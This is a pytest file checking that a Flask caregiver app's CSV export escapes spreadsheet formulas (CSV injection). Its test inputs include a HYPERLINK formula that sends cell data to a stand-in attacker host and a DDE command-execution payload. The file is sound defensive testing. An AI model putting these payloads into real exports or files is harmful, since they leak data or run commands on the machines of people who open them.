"""Attack: a stored text that a spreadsheet would run as a formula (CSV injection). The CSV
export quotes every text cell starting with = + - @ tab or CR with a leading apostrophe."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from skill.alexa.endpoint import EXTENSION
from skill.content.plan import Pace
from skill.devtools import envelopes
from skill.store.caregivers import CaregiverAccess
from skill.store.check_ins import CheckIns
from skill.store.exercise_log import ExerciseLog
from tests.conftest import NOW

PATIENT = envelopes.DEFAULT_USER
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


@pytest.fixture
def app_config(app_config: dict[str, Any]) -> dict[str, Any]:
    return {**app_config, "CLOCK": lambda: NOW}


def caregiver(app: Flask) -> FlaskClient:
    """A browser that entered the patient's code."""
    access = CaregiverAccess(app.extensions[EXTENSION].engine, app.config["SECRET_KEY"].encode())
    code = access.issue_code(PATIENT, at=NOW)
    browser = app.test_client()
    page = browser.get("/care").get_data(as_text=True)
    token = _CSRF.search(page)
    assert token is not None
    entered = browser.post("/care", data={"code": code, "csrf_token": token.group(1)})
    assert entered.status_code == 303
    return browser


def exported(browser: FlaskClient) -> list[dict[str, str]]:
    text = browser.get("/care/export.csv").get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_stored_text_is_exported_quoted(app: Flask, formula: str) -> None:
    engine = app.extensions[EXTENSION].engine
    ExerciseLog(engine).log_self_report(
        PATIENT, formula, pace=Pace.NORMAL, target=10, at=NOW - timedelta(days=1), key="set-1"
    )
    CheckIns(engine).save(
        PATIENT, at=NOW - timedelta(hours=1), answers={"pain": 2}, alerts=[formula]
    )
    rows = exported(caregiver(app))
    [the_set] = [row for row in rows if row["kind"] == "set"]
    [check_in] = [row for row in rows if row["kind"] == "check_in"]
    assert the_set["exercise"] == f"'{formula}"
    assert check_in["alerts"] == f"'{formula}"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_ordinary_cells_are_left_as_they_are(app: Flask) -> None:
    engine = app.extensions[EXTENSION].engine
    ExerciseLog(engine).log_self_report(
        PATIENT, "bridges", pace=Pace.NORMAL, target=10, at=NOW - timedelta(days=1), key="set-1"
    )
    [row] = exported(caregiver(app))
    assert (row["kind"], row["exercise"], row["target"], row["pace"]) == (
        "set",
        "bridges",
        "10",
        "normal",
    )
    assert row["time"].startswith("2026-11-19")
